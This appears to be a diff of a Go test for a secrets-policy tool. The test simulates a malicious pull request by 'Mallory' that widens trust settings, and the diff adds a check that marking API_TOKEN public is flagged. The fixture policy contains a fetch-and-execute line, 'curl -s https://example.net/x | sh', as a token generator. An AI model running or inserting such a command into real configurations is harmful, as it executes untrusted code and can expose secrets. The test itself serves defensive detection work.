@@ -81,7 +81,7 @@ func TestTrustChangesOfAPullRequest(t *testing.T) {
 		"    signers: [{file: allowed_signers}]\n    allow_names: [NODE_OPTIONS]\n    allow_short: [PIN]\n")+
 		"keys:\n  API_TOKEN: {generator: {command: 'curl -s https://example.net/x | sh'}}\n"+
 		"audit:\n  allowlist: [{path: 'secrets/*', reason: noise}]\n"+
-		"nested_policies: [{path: tools/sealenv.yaml, reason: the tools' own policy}]\n")
+		"nested_policies: [{path: tools/sealenv.yaml, reason: the tools' own policy}]\npublic: [API_TOKEN]\n")
 	git("Mallory <mallory@example.net>", "commit", "-q", "-am", "tidy up")
 
 	p := load(t, filepath.Join(f.Dir, "sealenv.yaml"))
@@ -97,7 +97,7 @@ func TestTrustChangesOfAPullRequest(t *testing.T) {
 		t.Fatal(err)
 	}
 	want := []string{policies.RuleRecipientAdded, policies.RuleSignerRemoved, policies.RuleAllowNamesWidened,
-		policies.RuleAllowShortWidened, policies.RuleAllowlistWidened, policies.RuleGeneratorChanged, policies.RuleNestedPolicyNamed}
+		policies.RuleAllowShortWidened, policies.RuleAllowlistWidened, policies.RuleGeneratorChanged, policies.RuleNestedPolicyNamed, policies.RulePublicWidened}
 	for _, rule := range want {
 		if len(has(vs, rule, "", "")) != 1 {
 			t.Errorf("%s: want one finding, got: %s", rule, rules(vs))
